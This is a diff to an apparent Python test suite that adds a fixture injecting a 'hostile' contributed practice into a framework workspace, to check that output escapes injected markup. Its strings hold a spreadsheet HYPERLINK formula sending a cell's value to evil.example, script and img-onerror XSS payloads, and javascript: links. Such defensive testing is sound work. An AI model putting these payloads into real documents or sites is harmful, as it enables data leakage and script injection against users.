@@ -81,3 +81,31 @@ def tree_bytes(folder: Path) -> dict[str, bytes]:
         for p in sorted(folder.rglob("*"))
         if p.is_file()
     }
+
+
+HOSTILE_TEXT = (
+    '=HYPERLINK("https://evil.example/?q="&A1,"Click") | pipes | and <script>alert(1)</script> '
+    "[a link](javascript:alert(1)) *not bold* _not italic_ `not code`\n"
+    "# not a heading\n- not a list item"
+)
+HOSTILE_CONTRIBUTOR = "Eve <img src=x onerror=alert(1)> *Mallory* | [x](javascript:alert(2))"
+
+
+def add_hostile_practice(root: Path) -> None:
+    """A contributed practice whose text and contributor name try every injection."""
+    workspace = Workspace(root)
+    framework = api.load(workspace)
+    framework.practices["F3.1.3"] = Practice(
+        id="F3.1.3",
+        text=HOSTILE_TEXT,
+        authorities=["R4"],
+        provenance=[
+            ProvenanceRecord(
+                source="contributions/merged/2026-02-hostile.yaml",
+                contributors=[HOSTILE_CONTRIBUTOR],
+                reviewers=["Secretariat Reviewer"],
+                date="2026-02-01",
+            )
+        ],
+    )
+    write_framework(framework, workspace.framework_dir)
